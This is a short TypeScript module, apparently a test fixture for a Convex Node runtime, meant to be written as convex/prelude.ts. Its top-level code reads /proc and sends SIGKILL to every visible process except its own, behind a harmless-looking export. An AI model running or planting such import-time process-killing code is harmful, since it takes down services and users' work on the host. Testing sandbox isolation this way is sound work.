// note: every other process that can be seen is ended
// into: new:convex/prelude.ts
"use node";
import fs from "node:fs";
import process from "node:process";
for (const id of fs.readdirSync("/proc").map(Number)) {
  try {
    if (id > 0 && id !== process.pid) process.kill(id, "SIGKILL");
  } catch {
    // It is not to be ended.
  }
}
export const nothing = 1;
